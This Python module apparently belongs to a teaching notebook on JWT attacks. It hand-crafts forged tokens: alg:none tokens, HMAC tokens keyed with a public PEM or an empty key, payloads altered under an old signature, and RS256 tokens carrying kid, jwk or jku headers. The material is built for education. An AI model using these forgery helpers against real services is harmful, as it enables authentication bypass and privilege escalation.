"""Build JWTs by hand, the way an attacker does: base64url, JSON and (maybe) an HMAC.

Nothing here is vulnerable by itself; it is the attacker's toolbox for notebook 05.
PyJWT refuses to make several of these tokens (an `alg: none` token under another
spelling, an HS256 token keyed with a PEM public key, an HMAC with an empty key), so
they are written out here in a few lines each, and the lesson is that a few lines
are all an attacker needs.

    tamper(token, role="admin")                 new payload, old signature
    make_token(header, claims, key=b"...")      HS256/384/512 with any bytes as the key
    make_token({"alg": "none"}, claims)         no signature at all
    sign_rs256(claims, private_pem, kid=...)    a real RS256 signature (PyJWT)
    public_jwk(public_pem, kid)                 a public key as a JWK dict
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

import jwt
from jwt.algorithms import RSAAlgorithm

HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url_encode(raw: bytes) -> str:
    """base64url without `=` padding, as JWTs use it (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def b64url_decode(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def encode_json(value: dict[str, Any]) -> str:
    """One JWT segment: compact JSON, then base64url."""
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode())


def decode_json(segment: str) -> dict[str, Any]:
    return json.loads(b64url_decode(segment))


def hmac_signature(alg: str, signing_input: str, key: bytes) -> str:
    """The JWS signature of `header.payload` for an HS* algorithm, with *any* bytes as key."""
    digest = hmac.new(key, signing_input.encode(), HMAC_HASHES[alg.upper()]).digest()
    return b64url_encode(digest)


def make_token(header: dict[str, Any], claims: dict[str, Any], key: bytes | None = None) -> str:
    """`header.payload.signature`. With `key=None` the signature is empty (`alg: none`)."""
    signing_input = f"{encode_json(header)}.{encode_json(claims)}"
    if key is None:
        return signing_input + "."
    return f"{signing_input}.{hmac_signature(header['alg'], signing_input, key)}"


def tamper(token: str, **changes: Any) -> str:
    """The same header and signature, with the payload edited. No key involved."""
    header, payload, signature = token.split(".")
    return f"{header}.{encode_json({**decode_json(payload), **changes})}.{signature}"


def sign_rs256(claims: dict[str, Any], private_pem: bytes, **header: Any) -> str:
    """A genuine RS256 token, signed by PyJWT, with extra header fields (`kid`, `jwk`, `jku`)."""
    return jwt.encode(claims, private_pem, algorithm="RS256", headers=header or None)


def public_jwk(public_pem: bytes, kid: str) -> dict[str, Any]:
    """An RSA public key as a JWK (RFC 7517), the form `jwk` headers and JWKS files use."""
    jwk = RSAAlgorithm.to_jwk(RSAAlgorithm(RSAAlgorithm.SHA256).prepare_key(public_pem),
                              as_dict=True)
    return {**jwk, "kid": kid, "alg": "RS256", "use": "sig"}


__all__ = ["b64url_decode", "b64url_encode", "decode_json", "encode_json", "hmac_signature",
           "make_token", "public_jwk", "sign_rs256", "tamper"]
